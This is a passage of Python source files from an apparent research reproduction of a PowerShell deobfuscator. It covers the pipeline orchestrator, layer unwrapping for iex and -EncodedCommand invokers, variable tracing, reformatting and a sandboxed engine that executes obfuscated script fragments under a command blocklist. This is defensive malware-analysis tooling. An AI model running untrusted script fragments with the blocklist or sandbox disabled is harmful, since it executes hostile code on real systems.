    """

    original: str
    script: str
    layers: List[str] = field(default_factory=list)
    iterations: int = 0
    layers_unwrapped: int = 0
    valid_input: bool = True
    timed_out: bool = False
    elapsed_seconds: float = 0.0
    stats: PipelineStats = field(default_factory=PipelineStats)
    audit: Optional[PolicyAudit] = None

    @property
    def changed(self) -> bool:
        return self.script != self.original


class Deobfuscator:
    """AST-based, semantics-preserving deobfuscator.

    The orchestrator is language-neutral: every language-specific
    phase dispatches through the :class:`~repro.frontend.Frontend`
    named by ``options.language`` (``powershell`` — the paper's
    pipeline — by default).  Configured by one typed record:
    ``Deobfuscator(options=PipelineOptions(...))``.  The option fields
    mirror the paper's design decisions so each can be ablated:

    token_phase
        Run the Section III-A token parsing phase.
    ast_phase
        Run Section III-B recovery based on AST.
    trace_variables
        Keep Algorithm 1's symbol tables (off → the Li et al. failure
        mode on variable-carrying pieces).
    trace_functions
        EXTENSION (off by default, matching the paper): make user-defined
        function definitions callable during piece recovery, lifting the
        paper's Section V-C "recovery algorithm inside a function"
        limitation for side-effect-free decoders.
    multilayer
        Unwrap ``Invoke-Expression``/``powershell -enc`` layers.
    rename / reformat
        The Section III-C post-processing.
    enforce_blocklist
        Skip pieces containing irrelevant/dangerous commands (off → the
        Fig 6 slow-baseline behaviour).
    policy
        The :mod:`repro.policy` sandbox preset every evaluation this
        run performs executes under (capability allow/deny lists,
        budgets, audit settings).  ``recovery-strict`` — the paper's
        defaults — when unset; an explicit ``enforce_blocklist=False``
        still wins over the preset's blocklist setting so the Fig 6
        ablation stays a one-flag change.
    deadline_seconds
        Cooperative wall-clock budget for one ``deobfuscate()`` call.
        The deadline is checked between phases and between fixpoint
        iterations; when it passes, the run stops, returns the best
        intermediate script and sets ``result.timed_out``.  A single
        pathological phase can still overrun (phases are not
        preempted) — :mod:`repro.batch` adds the hard process-kill
        backstop for corpus runs.
    collect_spans
        Record per-phase wall-clock spans into ``result.stats`` (on by
        default; the overhead is two clock reads per phase, pinned ≤ 5%
        by ``benchmarks/test_phase_profile.py``).  Counters are always
        collected.
    tag_techniques
        Run the Table I technique-telemetry pass after convergence (on
        by default): the per-technique detectors scan the original and
        every exposed intermediate layer, and the tags land in
        ``result.stats.techniques`` (:mod:`repro.obs.techniques`).

    ``deobfuscate(script, recorder=...)`` additionally accepts a
    :class:`~repro.obs.SpanRecorder`: the whole run then records a
    ``pipeline`` trace span with every phase span nested under it, so
    entry points (CLI, batch worker, service request) can stitch the
    run into a cross-process trace.
    """

    def __init__(self, options: Optional[PipelineOptions] = None):
        if options is None:
            options = PipelineOptions()
        elif not isinstance(options, PipelineOptions):
            raise TypeError(
                "options must be a PipelineOptions, got "
                f"{type(options).__name__}"
            )
        self.options = options
        # One resolved policy per deobfuscator: the preset the options
        # name, with the explicit blocklist ablation flag applied on
        # top (Fig 6's one-flag experiment must stay one flag).
        policy = resolve_policy(options.policy)
        if not options.enforce_blocklist and policy.enforce_blocklist:
            policy = policy.replace(enforce_blocklist=False)
        self.policy: SandboxPolicy = policy
        # The language front end every phase dispatches through —
        # options.language was validated at construction, so this
        # resolve cannot fail.
        self.frontend: Frontend = resolve_frontend(options.language)

    def __getattr__(self, name: str):
        # Option fields read through to the options record, so
        # ``deobfuscator.rename`` keeps working across the redesign.
        options = self.__dict__.get("options")
        if options is not None and name in PipelineOptions.field_names():
            return getattr(options, name)
        raise AttributeError(
            f"{type(self).__name__!r} object has no attribute {name!r}"
        )

    def deobfuscate(
        self, script: str, recorder=None
    ) -> DeobfuscationResult:
        started = time.perf_counter()
        # The cooperative wall-clock ceiling: an explicit option wins,
        # else the policy's wall_time_seconds budget applies.
        deadline_seconds = self.deadline_seconds
        if deadline_seconds is None:
            deadline_seconds = self.policy.wall_time_seconds
        deadline = (
            started + deadline_seconds
            if deadline_seconds is not None
            else None
        )

        def out_of_time() -> bool:
            return deadline is not None and time.perf_counter() >= deadline

        audit = PolicyAudit(self.policy)
        result = DeobfuscationResult(
            original=script, script=script, audit=audit
        )
        stats = result.stats
        pipeline_span = (
            recorder.begin("pipeline") if recorder is not None else None
        )
        tracer = Tracer(enabled=self.collect_spans, recorder=recorder)
        frontend = self.frontend
        # One subtree memo per run, shared across fixpoint iterations
        # (identical obfuscated fragments recur within one script);
        # front-end-private process-wide counters (the PowerShell
        # intern table) record this run's delta through the
        # begin/finalize bracket.
        memo = SubtreeMemo() if self.subtree_memo else None
        counters_token = frontend.begin_counters()

        def finalize_counters() -> None:
            if memo is not None:
                stats.subtree_memo_hits = memo.hits
                stats.subtree_memo_misses = memo.misses
            frontend.finalize_counters(stats, counters_token)
            stats.policy = self.policy.name
            stats.language = self.options.language
            stats.policy_denials = audit.denial_counts()
            stats.budget_spent = audit.budget_spent()

        ast, _ = frontend.try_parse(script)
        if ast is None:
            result.valid_input = False
            finalize_counters()
            result.elapsed_seconds = time.perf_counter() - started
            _log.warning(
                "input did not parse; no phase ran",
                language=self.options.language,
                length=len(script),
            )
            if pipeline_span is not None:
                recorder.end(pipeline_span, status="error")
            return result

        current = script
        converged = False
        for iteration in range(self.max_iterations):
            if out_of_time():
                result.timed_out = True
                break
            step = current
            if self.token_phase:
                with tracer.span("token", iteration=iteration):
                    step = frontend.token_pass(step, stats=stats)
            if self.ast_phase and not out_of_time():
                with tracer.span("ast", iteration=iteration):
                    step = frontend.ast_pass(
                        step,
                        options=self.options,
                        policy=self.policy,
                        memo=memo,
                        audit=audit,
                        stats=stats,
                    )
            if self.multilayer and not out_of_time():
                with tracer.span("multilayer", iteration=iteration):
                    unwrapped = frontend.unwrap_layers(step)
                step = unwrapped.script
                result.layers_unwrapped += unwrapped.count
                for kind, count in unwrapped.kinds.items():
                    stats.unwrap_kinds[kind] = (
                        stats.unwrap_kinds.get(kind, 0) + count
                    )
            result.iterations += 1
            if step == current:
                converged = True
                break
            current = step
            result.layers.append(current)
        if not converged and out_of_time():
            result.timed_out = True

        if self.rename:
            if out_of_time():
                result.timed_out = True
            else:
                with tracer.span("rename"):
                    current = frontend.rename(current)
        if self.reformat:
            if out_of_time():
                result.timed_out = True
            else:
                with tracer.span("reformat"):
                    current = frontend.reformat(current)

        result.script = current

        if self.tag_techniques and not out_of_time():
            with tracer.span(SPAN_TECHNIQUES):
                stats.techniques = frontend.tag_techniques(
                    result.original,
                    layers=result.layers,
                    unwrap_kinds=stats.unwrap_kinds,
                )

        stats.spans = tracer.spans
        stats.phase_seconds = tracer.phase_totals()
        finalize_counters()
        result.elapsed_seconds = time.perf_counter() - started
        if result.timed_out:
            _log.warning(
                "pipeline hit its cooperative deadline",
                iterations=result.iterations,
                deadline_seconds=deadline_seconds,
                elapsed_ms=round(result.elapsed_seconds * 1000, 3),
            )
        else:
            _log.debug(
                "pipeline run finished",
                iterations=result.iterations,
                layers_unwrapped=result.layers_unwrapped,
                pieces_recovered=stats.pieces_recovered,
                changed=result.changed,
                elapsed_ms=round(result.elapsed_seconds * 1000, 3),
            )
        if pipeline_span is not None:
            recorder.end(
                pipeline_span,
                status="aborted" if result.timed_out else "ok",
            )
        return result


def deobfuscate(
    script: str,
    options: Optional[PipelineOptions] = None,
    recorder=None,
) -> DeobfuscationResult:
    """One-call convenience API: ``deobfuscate(script).script``.

    *recorder* optionally threads a :class:`~repro.obs.SpanRecorder`
    through the run (see :meth:`Deobfuscator.deobfuscate`).
    """
    return Deobfuscator(options=options).deobfuscate(
        script, recorder=recorder
    )
