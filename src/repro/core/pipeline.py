"""The Invoke-Deobfuscation orchestrator (paper Fig 2).

``token parse → AST recovery (with variable tracing) → multi-layer
unwrap`` runs in a loop until the script stops changing (Section III-B4's
fixpoint), then randomized identifiers are renamed and the script is
reformatted.  Every phase is individually optional so the ablation bench
(DESIGN.md A1) can switch pieces off.
"""

import time
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.core.multilayer import unwrap_layers
from repro.core.recovery import RecoveryEngine
from repro.core.reconstruction import AstDeobfuscator
from repro.core.reformat import reformat_script
from repro.core.rename import rename_random_identifiers
from repro.core.token_deobfuscator import deobfuscate_tokens
from repro.pslang.parser import try_parse

DEFAULT_MAX_ITERATIONS = 10


@dataclass
class DeobfuscationResult:
    """What one deobfuscation run produced."""

    original: str
    script: str
    layers: List[str] = field(default_factory=list)
    iterations: int = 0
    layers_unwrapped: int = 0
    valid_input: bool = True
    elapsed_seconds: float = 0.0
    stats: Dict[str, int] = field(default_factory=dict)

    @property
    def changed(self) -> bool:
        return self.script != self.original


class Deobfuscator:
    """AST-based, semantics-preserving PowerShell deobfuscator.

    Parameters mirror the paper's design decisions so each can be ablated:

    token_phase
        Run the Section III-A token parsing phase.
    ast_phase
        Run Section III-B recovery based on AST.
    trace_variables
        Keep Algorithm 1's symbol tables (off → the Li et al. failure
        mode on variable-carrying pieces).
    trace_functions
        EXTENSION (off by default, matching the paper): make user-defined
        function definitions callable during piece recovery, lifting the
        paper's Section V-C "recovery algorithm inside a function"
        limitation for side-effect-free decoders.
    multilayer
        Unwrap ``Invoke-Expression``/``powershell -enc`` layers.
    rename / reformat
        The Section III-C post-processing.
    enforce_blocklist
        Skip pieces containing irrelevant/dangerous commands (off → the
        Fig 6 slow-baseline behaviour).
    """

    def __init__(
        self,
        token_phase: bool = True,
        ast_phase: bool = True,
        trace_variables: bool = True,
        trace_functions: bool = False,
        multilayer: bool = True,
        rename: bool = True,
        reformat: bool = True,
        enforce_blocklist: bool = True,
        max_iterations: int = DEFAULT_MAX_ITERATIONS,
        piece_step_limit: Optional[int] = None,
    ):
        self.token_phase = token_phase
        self.ast_phase = ast_phase
        self.trace_variables = trace_variables
        self.trace_functions = trace_functions
        self.multilayer = multilayer
        self.rename = rename
        self.reformat = reformat
        self.enforce_blocklist = enforce_blocklist
        self.max_iterations = max_iterations
        self.piece_step_limit = piece_step_limit

    def _make_recovery(self) -> RecoveryEngine:
        if self.piece_step_limit is not None:
            return RecoveryEngine(
                enforce_blocklist=self.enforce_blocklist,
                step_limit=self.piece_step_limit,
            )
        return RecoveryEngine(enforce_blocklist=self.enforce_blocklist)

    def deobfuscate(self, script: str) -> DeobfuscationResult:
        started = time.perf_counter()
        result = DeobfuscationResult(original=script, script=script)
        ast, _ = try_parse(script)
        if ast is None:
            result.valid_input = False
            result.elapsed_seconds = time.perf_counter() - started
            return result

        current = script
        stats: Dict[str, int] = {
            "pieces_recovered": 0,
            "variables_traced": 0,
            "variables_substituted": 0,
        }
        for _iteration in range(self.max_iterations):
            step = current
            if self.token_phase:
                step = deobfuscate_tokens(step)
            if self.ast_phase:
                engine = AstDeobfuscator(
                    recovery=self._make_recovery(),
                    trace_variables=self.trace_variables,
                    trace_functions=self.trace_functions,
                )
                step = engine.process(step)
                for key, value in engine.stats.items():
                    stats[key] = stats.get(key, 0) + value
            if self.multilayer:
                step, unwrapped = unwrap_layers(step)
                result.layers_unwrapped += unwrapped
            result.iterations += 1
            if step == current:
                break
            current = step
            result.layers.append(current)

        if self.rename:
            current = rename_random_identifiers(current)
        if self.reformat:
            current = reformat_script(current)

        result.script = current
        result.stats = stats
        result.elapsed_seconds = time.perf_counter() - started
        return result


def deobfuscate(script: str, **kwargs) -> DeobfuscationResult:
    """One-call convenience API: ``deobfuscate(script).script``."""
    return Deobfuscator(**kwargs).deobfuscate(script)
