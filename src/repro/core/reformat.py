"""Reformatting (paper Section III-C): strip random whitespace, indent.

The reformatter re-emits the token stream with normalized spacing:

- tokens that were *adjacent* in the source stay adjacent (PowerShell
  adjacency is semantic — ``$a[0]`` indexes, ``$a [0]`` passes an array
  argument — so this is the only safe whitespace rule);
- tokens separated by any run of whitespace get exactly one space;
- newlines collapse to one; backtick line-continuations are joined;
- lines are indented four spaces per open ``{`` block.

The output is validated by re-parsing; on any failure the input script is
returned untouched (the paper's per-step syntax check).
"""

from typing import List

from repro.pslang.parser import try_parse_cached as try_parse
from repro.pslang.tokenizer import try_tokenize
from repro.pslang.tokens import PSToken, PSTokenType

INDENT = "    "


def reformat_script(script: str) -> str:
    tokens, error = try_tokenize(script)
    if tokens is None:
        return script
    rendered = _render(tokens, script)
    validated, _ = try_parse(rendered)
    if validated is None:
        return script
    return rendered


def _token_text(token: PSToken) -> str:
    """The text to emit for a token (raw text, minus dead constructs)."""
    return token.text


def _render(tokens: List[PSToken], script: str) -> str:
    out: List[str] = []
    depth = 0
    at_line_start = True
    previous: PSToken = None
    pending_newline = False

    for token in tokens:
        if token.type is PSTokenType.NEWLINE:
            pending_newline = True
            previous = token
            continue
        if token.type is PSTokenType.LINE_CONTINUATION:
            # Join continued lines with a single space.
            previous = token
            continue

        if token.type is PSTokenType.GROUP_END and token.content == "}":
            depth = max(0, depth - 1)

        if pending_newline:
            # Drop blank lines entirely.
            out.append("\n")
            out.append(INDENT * depth)
            at_line_start = True
            pending_newline = False

        if not at_line_start and previous is not None:
            adjacent = previous.end == token.start and previous.type not in (
                PSTokenType.NEWLINE,
                PSTokenType.LINE_CONTINUATION,
            )
            if not adjacent:
                out.append(" ")

        out.append(_token_text(token))
        at_line_start = False

        if token.type is PSTokenType.GROUP_START and token.content == "{":
            depth += 1
        previous = token

    text = "".join(out)
    lines = [line.rstrip() for line in text.split("\n")]
    # Trim leading/trailing blank lines but keep interior structure.
    while lines and not lines[0].strip():
        lines.pop(0)
    while lines and not lines[-1].strip():
        lines.pop()
    return "\n".join(lines)
