"""The Invoke-Deobfuscation pipeline (the paper's contribution).

Phases, in order (paper Fig 2):

1. :mod:`repro.core.token_deobfuscator` — token parsing: ticks, aliases,
   random case (Section III-A);
2. :mod:`repro.core.reconstruction` — variable tracing and recovery based
   on AST with in-place replacement (Sections III-B1..B3, B5);
3. :mod:`repro.core.multilayer` — ``Invoke-Expression`` / ``powershell
   -EncodedCommand`` unwrapping, iterated to a fixpoint (Section III-B4);
4. :mod:`repro.core.rename` + :mod:`repro.core.reformat` — renaming
   randomized identifiers and reformatting (Section III-C).

:class:`repro.core.pipeline.Deobfuscator` orchestrates all of it.
"""

from repro.core.pipeline import DeobfuscationResult, Deobfuscator, deobfuscate
from repro.obs import PipelineStats

__all__ = [
    "Deobfuscator",
    "DeobfuscationResult",
    "PipelineStats",
    "deobfuscate",
]
