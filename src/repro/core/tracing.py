"""Variable tracing — the paper's Algorithm 1 symbol tables.

``SymbolTable`` records each traced variable's value (``S_v``) and the
scope it was assigned in (``S_c``, represented as a *scope path* — the
chain of scope-introducing ancestors — which is strictly more precise
than the paper's integer depth).

Policy, following Section III-B3 and Section V-C:

- assignments inside loops or conditional statements remove the variable
  (its value depends on run-time control flow);
- assignments whose right-hand side cannot be evaluated (unknown
  variables, unsupported operations) remove the variable;
- a use site may be substituted only when the variable is recorded, its
  value is a string or a number, and the use's scope is within the
  recorded scope;
- uses inside loops are never substituted (the value may change between
  iterations — the whitespace-encoding limitation the paper discusses).
"""

from dataclasses import dataclass, field
from typing import Any, Dict, Optional, Tuple

from repro.pslang import ast_nodes as N
from repro.pslang.visitor import in_conditional, in_loop, scope_path
from repro.runtime.values import PSChar, ScriptBlockValue

ScopePath = Tuple[int, ...]

# Values worth recording: data, not live objects.
_RECORDABLE_TYPES = (
    str, int, float, bool, PSChar, list, bytes, bytearray, dict,
    ScriptBlockValue,
)


def is_recordable_value(value: Any) -> bool:
    return value is not None and isinstance(value, _RECORDABLE_TYPES)


def is_substitutable_value(value: Any) -> bool:
    """Only strings and numbers are substituted at use sites (paper).

    Chars are excluded for the same reason pieces with char results are
    kept: a quoted single character is not interchangeable with a
    ``System.Char`` in numeric contexts.
    """
    if isinstance(value, bool):
        return False
    return isinstance(value, (str, int, float))


@dataclass
class TracedVariable:
    value: Any
    scope: ScopePath


@dataclass
class SymbolTable:
    """``S_v`` and ``S_c`` in one structure (case-insensitive names).

    ``function_defs`` extends the paper (its Section V-C limitation):
    when function tracing is enabled, user-defined function definitions
    (by their current, partially recovered text) are made available to
    piece evaluation, so function-wrapped decoders become recoverable.
    """

    entries: Dict[str, TracedVariable] = field(default_factory=dict)
    env_overrides: Dict[str, str] = field(default_factory=dict)
    function_defs: Dict[str, str] = field(default_factory=dict)

    def record(self, name: str, value: Any, scope: ScopePath) -> None:
        self.entries[name.lower()] = TracedVariable(value=value, scope=scope)

    def remove(self, name: str) -> None:
        self.entries.pop(name.lower(), None)

    def lookup(self, name: str) -> Optional[TracedVariable]:
        return self.entries.get(name.lower())

    def values_for_evaluator(self) -> Dict[str, Any]:
        return {name: entry.value for name, entry in self.entries.items()}

    def record_env(self, name: str, value: str) -> None:
        self.env_overrides[name.lower()] = value

    def substitutable(self, name: str, use_scope: ScopePath) -> Optional[Any]:
        """The value to substitute at a use site, or None."""
        entry = self.lookup(name)
        if entry is None:
            return None
        if not is_substitutable_value(entry.value):
            return None
        if not scope_contains(entry.scope, use_scope):
            return None
        return entry.value


def scope_contains(assigned: ScopePath, use: ScopePath) -> bool:
    """True when *use* is the same scope as *assigned* or nested in it."""
    return use[: len(assigned)] == assigned


def assignment_is_traceable(node: N.AssignmentStatementAst) -> bool:
    """Assignments in loops/conditionals are abandoned (Algorithm 1)."""
    return not (in_loop(node) or in_conditional(node))


def use_is_substitutable_position(node: N.VariableExpressionAst) -> bool:
    """Structural filter for substituting a variable use.

    Excludes assignment targets, loop-body uses, ``foreach`` iteration
    variables and splatted uses.
    """
    if node.splatted:
        return False
    parent = node.parent
    if isinstance(parent, N.AssignmentStatementAst) and parent.left is node:
        return False
    if isinstance(parent, N.ConvertExpressionAst):
        grand = parent.parent
        if (
            isinstance(grand, N.AssignmentStatementAst)
            and grand.left is parent
        ):
            return False
    if isinstance(parent, N.ForEachStatementAst) and parent.variable is node:
        return False
    if isinstance(parent, N.ParameterAst):
        return False
    if isinstance(parent, N.UnaryExpressionAst) and parent.operator in (
        "++", "--",
    ):
        return False
    if in_loop(node):
        return False
    return True


def variable_scope(node: N.Ast) -> ScopePath:
    return scope_path(node)
