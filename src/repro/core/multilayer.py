"""Multi-layer obfuscation: Invoke-Expression / PowerShell (Section III-B4).

Multi-layer obfuscation wraps an obfuscated script string in an invoker:
``iex '...'``, ``'...' | iex``, ``&'iex' '...'``, ``.('iex') '...'`` or
``powershell -EncodedCommand <base64>``.  After the AST recovery pass has
reduced the argument to a string literal, this module unwraps one layer by
replacing the invocation with the argument's content, validating that the
resulting script still parses.  The deobfuscation pipeline repeats
token-parse → AST-recover → unwrap until a fixpoint.
"""

import base64
import binascii
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.pslang import ast_nodes as N
from repro.pslang.aliases import resolve_alias
from repro.pslang.parser import try_parse_cached as try_parse

_IEX_NAMES = {"iex", "invoke-expression"}
_POWERSHELL_NAMES = {"powershell", "powershell.exe", "pwsh", "pwsh.exe"}


def _literal_value(node: N.Ast) -> Optional[str]:
    """The string a literal-ish element denotes, or None."""
    if isinstance(node, N.StringConstantExpressionAst):
        return node.value
    if isinstance(node, N.ExpandableStringExpressionAst):
        # Only safe when there is nothing left to expand.
        if "$" not in node.value and "`" not in node.value:
            return node.value
        return None
    if isinstance(node, N.ParenExpressionAst):
        inner = node.pipeline
        if isinstance(inner, N.PipelineAst) and len(inner.elements) == 1:
            element = inner.elements[0]
            if isinstance(element, N.CommandExpressionAst):
                return _literal_value(element.expression)
    return None


def _command_name(command: N.CommandAst) -> Optional[str]:
    """Resolve the (possibly quoted/aliased) name of a command element."""
    if not command.elements:
        return None
    head = command.elements[0]
    name = _literal_value(head)
    if name is None and isinstance(head, N.StringConstantExpressionAst):
        name = head.value
    if name is None:
        return None
    name = name.strip().lower()
    resolved = resolve_alias(name)
    if resolved is not None:
        return resolved.lower()
    basename = name.rsplit("\\", 1)[-1].rsplit("/", 1)[-1]
    return basename


def is_invoke_expression_command(command: N.CommandAst) -> bool:
    return _command_name(command) in _IEX_NAMES


def is_powershell_command(command: N.CommandAst) -> bool:
    return _command_name(command) in _POWERSHELL_NAMES


def decode_encoded_command(encoded: str) -> Optional[str]:
    """Base64(UTF-16LE) → script, or None when it does not decode."""
    text = encoded.strip().strip("'\"")
    try:
        raw = base64.b64decode(text, validate=True)
    except (binascii.Error, ValueError):
        return None
    try:
        script = raw.decode("utf-16-le")
    except UnicodeDecodeError:
        return None
    if "\x00" in script:
        return None
    return script


def _is_encoded_command_parameter(name: str) -> bool:
    """Case-insensitive prefix match the way PowerShell binds it (paper:
    ``'-encodedcommand'.StartsWith($param)``)."""
    lowered = name.lstrip("-").lower()
    return bool(lowered) and "encodedcommand".startswith(lowered)


def _is_command_parameter(name: str) -> bool:
    lowered = name.lstrip("-").lower()
    return lowered == "c" or (
        bool(lowered) and "command".startswith(lowered)
    )


def _extract_iex_payload(command: N.CommandAst) -> Optional[str]:
    for element in command.elements[1:]:
        if isinstance(element, N.CommandParameterAst):
            continue
        return _literal_value(element)
    return None


def _extract_powershell_payload(
    command: N.CommandAst,
) -> Optional[Tuple[str, str]]:
    """The inner script and its unwrap kind (``encoded_command`` when a
    base64 payload was decoded, ``command`` for inline script text)."""
    elements = command.elements[1:]
    index = 0
    positional: List[N.Ast] = []
    while index < len(elements):
        element = elements[index]
        if isinstance(element, N.CommandParameterAst):
            if _is_encoded_command_parameter(element.name):
                argument = element.argument
                if argument is None and index + 1 < len(elements):
                    argument = elements[index + 1]
                    index += 1
                if argument is not None:
                    literal = _literal_value(argument)
                    if literal is not None:
                        decoded = decode_encoded_command(literal)
                        if decoded is not None:
                            return decoded, "encoded_command"
                return None
            if _is_command_parameter(element.name):
                argument = element.argument
                if argument is None and index + 1 < len(elements):
                    argument = elements[index + 1]
                    index += 1
                if argument is not None:
                    literal = _literal_value(argument)
                    if literal is not None:
                        return literal, "command"
                return None
        else:
            positional.append(element)
        index += 1
    # A bare trailing argument: encoded command or inline script.
    if positional:
        literal = _literal_value(positional[-1])
        if literal is not None:
            decoded = decode_encoded_command(literal)
            if decoded is not None:
                return decoded, "encoded_command"
            return literal, "command"
    return None


def _unwrap_pipeline(
    pipeline: N.PipelineAst,
) -> Optional[Tuple[str, str]]:
    """``(replacement_text, unwrap_kind)`` for a pipeline, or None."""
    elements = pipeline.elements
    # `'payload' | iex` (possibly with more stages in front).
    if len(elements) == 2 and isinstance(elements[1], N.CommandAst):
        tail = elements[1]
        if is_invoke_expression_command(tail) and isinstance(
            elements[0], N.CommandExpressionAst
        ):
            payload = _literal_value(elements[0].expression)
            if payload is not None:
                return payload, "iex"
    if len(elements) == 1 and isinstance(elements[0], N.CommandAst):
        command = elements[0]
        if is_invoke_expression_command(command):
            payload = _extract_iex_payload(command)
            if payload is not None:
                return payload, "iex"
            return None
        if is_powershell_command(command):
            return _extract_powershell_payload(command)
    return None


@dataclass
class UnwrapResult:
    """One ``unwrap_layers`` pass: the new script plus what happened."""

    script: str
    count: int = 0
    kinds: Dict[str, int] = field(default_factory=dict)


def unwrap_layers_detailed(script: str) -> UnwrapResult:
    """Unwrap every syntactically safe invoker in *script* once,
    recording how many layers of each kind (``iex``, ``encoded_command``,
    ``command``) came off."""
    ast, _ = try_parse(script)
    if ast is None:
        return UnwrapResult(script)
    replacements: List[Tuple[int, int, str, str]] = []
    for node in ast.walk_pre_order():
        if not isinstance(node, N.PipelineAst):
            continue
        unwrapped = _unwrap_pipeline(node)
        if unwrapped is None:
            continue
        payload, kind = unwrapped
        inner_ast, _ = try_parse(payload)
        if inner_ast is None:
            continue
        replacements.append((node.start, node.end, payload, kind))
    if not replacements:
        return UnwrapResult(script)
    # Drop nested replacements (outermost wins) and apply right-to-left.
    replacements.sort(key=lambda r: (r[0], -r[1]))
    accepted: List[Tuple[int, int, str, str]] = []
    last_end = -1
    for start, end, payload, kind in replacements:
        if start < last_end:
            continue
        accepted.append((start, end, payload, kind))
        last_end = end
    outcome = UnwrapResult(script)
    result = script
    for start, end, payload, kind in reversed(accepted):
        candidate = result[:start] + payload + result[end:]
        validated, _ = try_parse(candidate)
        if validated is None:
            continue
        result = candidate
        outcome.count += 1
        outcome.kinds[kind] = outcome.kinds.get(kind, 0) + 1
    outcome.script = result
    return outcome


def unwrap_layers(script: str) -> Tuple[str, int]:
    """Unwrap every syntactically safe invoker in *script* once.

    Returns ``(new_script, how_many_layers_unwrapped)``.
    """
    outcome = unwrap_layers_detailed(script)
    return outcome.script, outcome.count
