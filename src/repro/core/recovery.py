"""Recovery based on Invoke (paper Section III-B2).

A recoverable piece is executed in the sandbox; the result is converted to
its *string form*:

- ``String``/``Char`` results become single-quoted literals,
- ``Number`` results become bare numeric literals,
- anything else (objects, ``$null``, booleans, arrays) keeps the original
  piece, exactly as the paper specifies.

Pieces mentioning blocklisted commands are not executed at all — that is
the paper's speed-up (and the reason Fig 6's curve is flat).
"""

from dataclasses import dataclass
from typing import Any, Dict, Optional, Tuple

from repro.obs.log import get_logger
from repro.policy import PolicyAudit, SandboxPolicy, default_policy, resolve_policy
from repro.runtime.errors import (
    BlockedCommandError,
    EvaluationError,
    StepLimitError,
)
from repro.runtime.evaluator import Evaluator
from repro.runtime.host import SandboxHost
from repro.runtime.limits import ExecutionBudget
from repro.runtime.memo import SubtreeMemo
from repro.runtime.values import PSChar

# Pieces longer than this are never worth executing for recovery and only
# burn budget (the paper's 4-minute cap exists for the same reason).
MAX_PIECE_LENGTH = 200_000

PIECE_STEP_LIMIT = 50_000

_log = get_logger("core.recovery")

# Outcomes worth narrating in the event log: the piece ran (or was
# refused) in a way an analyst reading the log would want to see,
# unlike the routine "recovered"/"unsupported" bulk.
_NARRATED_REASONS = ("blocked", "step_limit", "not_stringifiable")


def _narrate_outcome(piece: str, outcome: "RecoveryOutcome") -> None:
    """Emit one debug event for a narratable recovery outcome, with
    the piece's extents (length + clipped head) so the log reader can
    locate it in the script without embedding hostile content."""
    if outcome.reason not in _NARRATED_REASONS:
        return
    _log.debug(
        f"piece recovery: {outcome.reason}",
        reason=outcome.reason,
        piece_chars=len(piece),
        piece_head=piece[:80],
        steps=outcome.steps,
    )


def quote_single(text: str) -> str:
    """Render *text* as a PowerShell single-quoted literal."""
    return "'" + text.replace("'", "''") + "'"


def stringify_result(value: Any) -> Optional[str]:
    """The paper's string form of an execution result, or None to keep.

    Only ``String`` and ``Number`` results are representable (Section
    III-B2).  ``Char`` is deliberately *not*: replacing ``[char]62`` with
    ``'>'`` changes ``[int][char]62`` (62) into ``[int]'>'`` (an error),
    so char-valued pieces are kept until a parent piece produces a string.
    """
    if isinstance(value, bool):
        # Booleans have no faithful literal in replacement position.
        return None
    if isinstance(value, (int, float)):
        from repro.runtime.values import to_string

        return to_string(value)
    if isinstance(value, PSChar):
        return None
    if isinstance(value, str):
        if value == "":
            return "''"
        if any(ord(ch) < 9 for ch in value):
            return None  # control garbage: likely a decode gone wrong
        return quote_single(value)
    return None


@dataclass
class RecoveryOutcome:
    """What happened when one piece was offered to the sandbox.

    ``text`` is the replacement literal, or None when the caller should
    keep the original piece.  ``reason`` is one of
    :data:`repro.obs.stats.RECOVERY_REASONS`; ``steps`` is how many
    interpreter steps the attempt consumed (0 when never executed).
    """

    text: Optional[str]
    reason: str
    steps: int = 0

    @property
    def recovered(self) -> bool:
        return self.text is not None


class RecoveryEngine:
    """Evaluates piece text under a symbol table and stringifies results."""

    def __init__(
        self,
        enforce_blocklist: bool = True,
        step_limit: Optional[int] = None,
        memo: Optional[SubtreeMemo] = None,
        policy: Optional[SandboxPolicy] = None,
        audit: Optional[PolicyAudit] = None,
        language: str = "powershell",
    ):
        # The policy is the capability/budget contract every evaluator
        # this engine builds runs under; the enforce_blocklist boolean
        # is the legacy spelling and maps onto the matching preset.
        if policy is None:
            policy = default_policy(enforce_blocklist)
        else:
            policy = resolve_policy(policy)
        self.policy = policy
        self.audit = audit
        self.enforce_blocklist = policy.enforce_blocklist
        # None means "use the default", so callers forwarding a
        # user-supplied optional limit never need a two-branch
        # construction.  Precedence: explicit argument, then the
        # policy's piece budget, then the engine default.
        if step_limit is None:
            step_limit = (
                policy.piece_step_limit
                if policy.piece_step_limit is not None else PIECE_STEP_LIMIT
            )
        self.step_limit = step_limit
        # Optional per-run subtree memo (repro.runtime.memo): replays
        # the outcome of a structurally identical piece under identical
        # bindings instead of re-running the sandbox.  The pipeline
        # shares one memo across fixpoint iterations.
        self.memo = memo
        # The front-end id salting every memo key: two languages handed
        # the same piece text must never replay each other's outcomes.
        self.language = language

    def evaluate_piece(
        self,
        piece: str,
        variables: Optional[Dict[str, Any]] = None,
        env_overrides: Optional[Dict[str, str]] = None,
        function_defs: Optional[Dict[str, str]] = None,
    ) -> Tuple[bool, Any]:
        """Run *piece*; returns ``(ok, value)``.

        ``ok`` is False when the piece is not executable under sandbox
        policy (unsupported/blocked/failed), in which case the caller
        keeps the original text.
        """
        ok, value, _outcome = self._evaluate(
            piece, variables, env_overrides, function_defs
        )
        return ok, value

    def _evaluate(
        self,
        piece: str,
        variables: Optional[Dict[str, Any]] = None,
        env_overrides: Optional[Dict[str, str]] = None,
        function_defs: Optional[Dict[str, str]] = None,
    ) -> Tuple[bool, Any, RecoveryOutcome]:
        """Run *piece* (or replay a memoized outcome), classifying the
        failure mode for telemetry.

        On a memo hit the stored ``reason`` and ``steps`` are replayed,
        so callers account outcomes and evaluator steps identically
        whether the sandbox ran or not.
        """
        memo = self.memo
        key = None
        if memo is not None:
            key = memo.make_key(
                piece,
                variables,
                env_overrides,
                function_defs,
                # The memo key must separate runs whose policy could
                # decide a piece differently, not just the blocklist
                # boolean — cache_token canonicalizes the whole policy —
                # and runs of different language front ends.
                salt=(
                    self.policy.cache_token,
                    self.step_limit,
                    self.language,
                ),
            )
            if key is not None:
                cached = memo.get(key)
                if cached is not None:
                    ok, value, reason, steps = cached
                    return ok, value, RecoveryOutcome(
                        None, reason, steps=steps
                    )
        ok, value, outcome = self._evaluate_uncached(
            piece, variables, env_overrides, function_defs
        )
